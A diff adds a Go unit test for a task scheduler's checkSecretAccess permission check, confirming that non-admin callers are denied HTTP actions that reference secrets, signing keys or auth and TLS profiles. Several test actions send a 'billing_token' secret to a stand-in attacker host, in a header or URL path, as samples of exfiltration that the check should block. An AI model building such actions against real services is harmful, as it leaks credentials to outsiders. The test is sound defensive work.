@@ -0,0 +1,51 @@
+package services
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"testing"
+
+	"github.com/ayushsarode/task-scheduler/internal/audit"
+	"github.com/ayushsarode/task-scheduler/internal/models"
+)
+
+func TestCheckSecretAccess(t *testing.T) {
+	plain := models.Action{Method: "POST", URL: "https://api.example.com/hooks", Payload: json.RawMessage(`{"run":"{{ .RunID }}"}`)}
+	secretHeader := models.Action{Method: "GET", URL: "https://attacker.example.com", Headers: map[string]string{"Authorization": `Bearer {{ secret "billing_token" }}`}}
+	secretInBranch := models.Action{Method: "GET", URL: `https://attacker.example.com/{{ if .Vars.x }}{{ secret "billing_token" }}{{ end }}`}
+	signed := models.Action{Method: "POST", URL: "https://api.example.com", Signing: &models.SigningConfig{Type: models.SigningHMAC, Secret: "signing_key"}}
+	authProfile := models.Action{Method: "GET", URL: "https://attacker.example.com", AuthProfile: "billing-api"}
+	tlsProfile := models.Action{Method: "GET", URL: "https://attacker.example.com", TLSProfile: "internal-mtls"}
+
+	writer := audit.WithActor(context.Background(), audit.Actor{Name: "ci", Scopes: models.APIScopes{models.ScopeTasksRead, models.ScopeTasksWrite}})
+	admin := audit.WithActor(context.Background(), audit.Actor{Name: "ops", Scopes: models.APIScopes{models.ScopeAdmin}})
+	unauthenticated := audit.WithActor(context.Background(), audit.Actor{Name: "anonymous"})
+
+	tests := []struct {
+		name   string
+		ctx    context.Context
+		action models.Action
+		denied bool
+	}{
+		{name: "writer without secrets", ctx: writer, action: plain},
+		{name: "writer with secret header", ctx: writer, action: secretHeader, denied: true},
+		{name: "writer with secret in a branch", ctx: writer, action: secretInBranch, denied: true},
+		{name: "writer with signing", ctx: writer, action: signed, denied: true},
+		{name: "writer with auth profile", ctx: writer, action: authProfile, denied: true},
+		{name: "writer with tls profile", ctx: writer, action: tlsProfile, denied: true},
+		{name: "admin with secret header", ctx: admin, action: secretHeader},
+		{name: "admin with auth profile", ctx: admin, action: authProfile},
+		{name: "authentication disabled", ctx: unauthenticated, action: secretHeader},
+		{name: "scheduler", ctx: context.Background(), action: signed},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := checkSecretAccess(tt.ctx, tt.action)
+			if denied := errors.Is(err, ErrSecretAccessDenied); denied != tt.denied {
+				t.Errorf("checkSecretAccess() error = %v, denied %v", err, tt.denied)
+			}
+		})
+	}
+}